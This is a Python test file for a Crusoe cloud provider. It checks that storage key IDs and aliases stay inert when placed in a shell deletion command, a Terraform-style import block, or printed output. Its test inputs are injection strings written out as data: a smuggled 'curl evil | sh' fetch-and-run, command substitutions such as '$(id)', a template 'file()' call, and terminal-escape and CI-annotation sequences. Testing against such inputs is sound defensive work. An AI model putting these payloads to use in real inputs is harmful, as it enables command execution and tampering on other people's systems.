"""What messages offer for pasting: an ID that the API names never becomes anything else."""

import shlex

import pytest

from crusoe_provider.api.models import StorageKey
from crusoe_provider.provider.key_texts import deletion_command, describe_token, import_block


@pytest.mark.parametrize("hostile", ["x; curl evil | sh #", "$(id)", "a'b", "a b", "`id`"])
def test_a_command_has_the_id_as_one_word(hostile: str) -> None:
    """Whichever of the two IDs is given."""
    for key in (StorageKey(access_key_id="CKIA1", key_uuid=hostile), StorageKey(hostile)):
        assert shlex.split(deletion_command(key)) == [
            "crusoe",
            "storage",
            "tokens",
            "delete",
            hostile,
        ]


def test_an_import_block_has_the_id_as_plain_text() -> None:
    """Neither the end of the text nor a template."""
    block = import_block(StorageKey(access_key_id='x"${file("a")}%{if b}\\'))

    assert 'id       = "x\\"$${file(\\"a\\")}%%{if b}\\\\"' in block


def test_an_alias_is_printable() -> None:
    """It is stored as it is, and shown as one line."""
    shown = describe_token(StorageKey(access_key_id="CKIA1", alias="a\x1b[2J\n::error::b\u202e"))

    assert shown.isprintable()
    assert "::error" not in shown
